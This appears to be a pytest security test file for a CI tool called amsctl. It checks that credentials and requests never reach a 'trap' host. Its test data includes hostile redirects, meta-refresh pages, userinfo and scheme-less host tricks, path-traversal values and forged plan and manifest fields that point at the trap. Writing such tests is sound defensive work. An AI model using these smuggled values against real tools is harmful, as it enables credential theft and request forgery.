def _(place: Place) -> None:
    session = f'{{url: "{place.desk.ams.url}", auth: {{type: session, clientId: {API_ID}, {SECRET}}}}}'
    place.desk.on_main("amsctl.yaml", project(session))
    place.desk.ams.faults.add(Rule(kind="redirect", path="re:logon", location=f"{place.trap.url}/logon"))
    place.change()
    place.read(1)
    place.desk.forget()  # the logon itself is no GET


@ATTEMPTS.add("answers of the AMS name the trap as the next page and the address of everything")
def _(place: Place) -> None:
    there = place.trap.url
    body = json.dumps(
        {"next": there, "href": there, "links": [{"rel": "next", "href": there}], "nextPage": there, "@odata.nextLink": there}
    )
    place.desk.ams.faults.add(Rule(kind="error_before", method="GET", status=200, body=body))
    place.change()
    place.read(1)


@ATTEMPTS.add("a refusal of the AMS is a page that names the trap")
def _(place: Place) -> None:
    page = f'<meta http-equiv="refresh" content="0;url={place.trap.url}"><a href="{place.trap.url}">log on</a>'
    place.desk.ams.faults.add(Rule(kind="error_before", method="GET", status=401, body=page, content_type="text/html"))
    place.change()
    place.read(1)


# --- what the forge answers ---


def at_forge(place: Place, forge: FakeForge, *words: str, code: int = 1) -> None:
    """A command of ``amsctl ci`` in a job of a forge."""
    event = place.desk.home / "event.json"
    event.write_text(json.dumps({"pull_request": {"number": 7, "base": {"ref": "main"}}}))
    (place.desk.home / "text.md").write_text("said\n")
    environ = {**forge.environ, "GITHUB_EVENT_PATH": str(event), "CI_MERGE_REQUEST_IID": "7"}
    place.same(place.desk.run("ci", *words, environ=environ), code)


def forge_of(place: Place, kind: str) -> FakeForge:
    made = FakeForge(kind=kind, repository="firm/limits" if kind == "github" else "42")
    if kind == "gitlab":
        place.desk.environ.pop("GITHUB_TOKEN", None)
    return made


NEXT: dict[str, Callable[[Trap, FakeForge], str]] = {
    "the trap": lambda trap, forge: f"{trap.url}/x",
    "the forge as a user of the trap": lambda trap, forge: f"{forge.url}@{trap.host}/x",
    "the forge's address with more digits": lambda trap, forge: f"{forge.url}0/x",
    "the trap without a scheme": lambda trap, forge: f"//{trap.host}/x",
}


def _pages(kind: str, where: str) -> None:
    @ATTEMPTS.add(f"{kind} names as the next page {where}")
    def _(place: Place) -> None:
        forge = forge_of(place, kind)
        with served(forge):
            forge.pulls[7] = pull(forge)
            told = NEXT[where](place.trap, forge)
            forge.paged = lambda items, path, query: (200, [], {"Link": f'<{told}>; rel="next"'})  # type: ignore[method-assign]
            at_forge(place, forge, "comment", str(place.desk.home / "text.md"))
            at_forge(place, forge, "reviews", "-o", str(place.desk.home / "reviews.json"))
            at_forge(place, forge, "fetch", "-o", str(place.desk.home / "fetched.json"))
            assert [one.method for one in forge.asked if one.method != "GET" and one.path != "/graphql"] == []


def _sent_on(kind: str, method: str) -> None:
    @ATTEMPTS.add(f"{kind} sends a {method} elsewhere")
    def _(place: Place) -> None:
        forge = forge_of(place, kind)
        with served(forge):
            forge.pulls[7] = pull(forge)
            for status in (301, 302, 307, 308):
                forge.failures.append((method, "comments" if kind == "github" else "notes", status, {"Location": f"{place.trap.url}/x"}))
                at_forge(place, forge, "comment", str(place.desk.home / "text.md"))


def _artifact(kind: str, to: str, there: Callable[[Trap, FakeForge], str]) -> None:
    @ATTEMPTS.add(f"{kind} keeps the reviewed plan {to}", heard=True)
    def _(place: Place) -> None:
        forge = forge_of(place, kind)
        with served(forge):
            forge.pulls[7] = pull(forge)
            head = "a" * 40
            run = {"head_sha": head, "repository_id": 1, "head_repository_id": 1}
            forge.artifacts = [{"id": 1, "name": "amsctl-plan", "expired": False, "created_at": forge.clock, "workflow_run": run}]
            forge.pipelines = {5: {"id": 5, "sha": head, "project_id": 42}}
            forge.jobs = {5: [{"id": 1, "name": "amsctl-plan", "created_at": forge.clock, "artifacts_file": {"filename": "a.zip"}}]}
            forge.elsewhere = there(place.trap, forge)
            # At GitLab the file is the plan itself, whatever it says: apply opens it.
            at_forge(place, forge, "fetch", "-o", str(place.desk.home / "fetched.json"), code=1 if kind == "github" else 0)
        if kind == "gitlab":
            assert place.desk.run("apply", str(place.desk.home / "fetched.json")).code == 1


for _kind in ("github", "gitlab"):
    for _where in NEXT:
        _pages(_kind, _where)
    for _method in ("GET", "POST"):
        _sent_on(_kind, _method)
    _artifact(_kind, "on another host", lambda trap, forge: trap.url)
    _artifact(_kind, "on another host, which has the forge's name for a user", lambda trap, forge: f"http://x.example@{trap.host}")


# --- plan files ---


def _forged(what: str, change: Callable[[Place, Plan], Plan], code: int) -> None:
    @ATTEMPTS.add(f"a plan file names {what}")
    def _(place: Place) -> None:
        place.raised()
        file = place.desk.edited(place.desk.plan("--base", "main"), lambda plan: change(place, plan))
        place.desk.approve("kim", file)
        place.desk.sign("kim", file)
        place.same(place.desk.apply(file), code)
        place.same(place.desk.apply(file, "--base", "main"), code)


def stepped(plan: Plan, **members: Any) -> Plan:
    return replace(plan, steps=(replace(plan.steps[0], **members), *plan.steps[1:]))


_forged("the trap as the AMS", lambda place, plan: replace(plan, target=replace(plan.target, url=place.trap.url)), 4)
_forged("the trap as the address of a call", lambda place, plan: stepped(plan, path=f"{place.trap.url}{plan.steps[0].path}"), 4)
_forged("the trap as the host of a call", lambda place, plan: stepped(plan, path=f"//{place.trap.host}{plan.steps[0].path}"), 4)
_forged("the trap behind the host of a call", lambda place, plan: stepped(plan, path=f"@{place.trap.host}{plan.steps[0].path}"), 4)
_forged("a call that climbs out of the AMS", lambda place, plan: stepped(plan, path=f"/../..{plan.steps[0].path}"), 4)
_forged("a call with a query of its own", lambda place, plan: stepped(plan, query={"callback": place.trap.url}), 4)
_forged("an environment that the change adds", lambda place, plan: replace(plan, target=replace(plan.target, environment="other")), 1)


# --- ledgers ---


@ATTEMPTS.add("a run in the ledger was made at an address that main has left")
def _(place: Place) -> None:
    with serve(spec_book()) as other:
        place.desk.on_main("amsctl.yaml", project(f'{{url: "{other.url}", auth: {AUTH}}}'))
        half_run(place, other)
        place.desk.git("switch", "-q", "main")
        place.desk.on_main("amsctl.yaml", project(said(place)))
        place.desk.git("switch", "-q", "change")
        before = len(other.log)
        assert place.desk.run("resume").code != 0
        place.desk.run("rollback", place.desk.last_run(), "-o", str(place.desk.home / "back.json"))
        assert len(other.log) == before


def half_run(place: Place, other: Sandbox) -> None:
    place.change()
    place.desk.write("accounts/a.yaml", account(RAISED))
    place.desk.commit(who="jo")
    file = place.desk.plan("--base", "main")
    assert place.desk.approve("kim", file).code == 0
    other.faults.add(Rule(kind="error_before", method="POST", status=400, times=1))
    assert place.desk.run("apply", file).code in {1, 5}
    other.faults.clear()


@pytest.mark.parametrize("how", ["committed", "a link"])
def test_a_run_that_a_change_brings_along_is_not_resumed(how: str, place: Place) -> None:
    """A ledger that git tracks, or that a link inside the repository reaches, is not the record of anything."""
    desk = place.desk
    desk.on_main("amsctl.yaml", project(said(place), ledger="sqlite:///.amsctl/ledger.db"))
    half_run(place, desk.ams)
    desk.forget()
    if how == "committed":
        desk.git("add", "-f", ".amsctl")
    else:
        shutil.move(desk.root / ".amsctl", desk.home / "kept")
        os.symlink(desk.home / "kept", desk.root / ".amsctl")
    desk.commit(who="jo")
    place.same(desk.run("resume"), 1)
    place.same(desk.run("ledger", "verify"), 1)
    assert desk.writes() == []
    assert place.trap.heard == []


# --- manifests ---


def _manifest(what: str, written: Callable[[Trap], tuple[str, str, str]]) -> None:
    @ATTEMPTS.add(f"a manifest names as {what} an address")
    def _(place: Place) -> None:
        number, firm, product = written(place.trap)
        text = account(RAISED).replace(NUMBER, json.dumps(number)).replace("GREENTEA_API_CLEARING2", json.dumps(firm))
        on_branch(place, text.replace("CJ.FUT.NYMEX", json.dumps(product)), "accounts/a.yaml")
        place.desk.commit(who="jo")
        ran = place.desk.run("plan", "--base", "main", "-o", str(place.desk.home / "plan.json"))
        assert ran.code in {0, 1, 3}, ran.err
        assert all(one.path.startswith("/rest/v2/") and ".." not in one.path for one in place.desk.ams.log)


_FIRM, _PRODUCT = "GREENTEA_API_CLEARING2", "CJ.FUT.NYMEX"
_manifest("its number", lambda trap: (f"//{trap.host}", _FIRM, _PRODUCT))
_manifest("its firm", lambda trap: (NUMBER, f"{trap.url}/", _PRODUCT))
_manifest("a product", lambda trap: (NUMBER, _FIRM, trap.url))
_manifest("a number that climbs", lambda trap: ("../../../x", _FIRM, _PRODUCT))
_manifest("a number behind a host", lambda trap: (f"@{trap.host}", _FIRM, _PRODUCT))


@pytest.mark.parametrize("name", ATTEMPTS)
def test_nothing_goes_elsewhere(name: str, place: Place) -> None:
    """The trap hears nothing, or, where it is asked by right, no secret; and the AMS is written to as main says or not at all."""
    ATTEMPTS.check(name, place)
